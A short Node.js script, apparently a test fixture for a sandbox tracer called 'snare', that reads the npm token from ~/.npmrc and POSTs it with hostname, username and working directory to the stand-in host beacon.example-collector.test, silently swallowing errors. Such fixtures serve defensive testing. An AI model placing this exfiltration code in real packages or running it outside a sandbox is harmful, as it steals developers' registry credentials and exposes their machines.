// Sends host details and the npm token to a made-up collector.  Run it only
// through `snare trace`: inside the sandbox the collector is snare's sink.
const os = require('os');
const fs = require('fs');
const https = require('http');

let token = '';
try {
  token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
} catch (e) {}
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, cwd: process.cwd(), token });
const req = https.request({ host: 'beacon.example-collector.test', path: '/b', method: 'POST',
  headers: { 'content-type': 'application/json' } }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
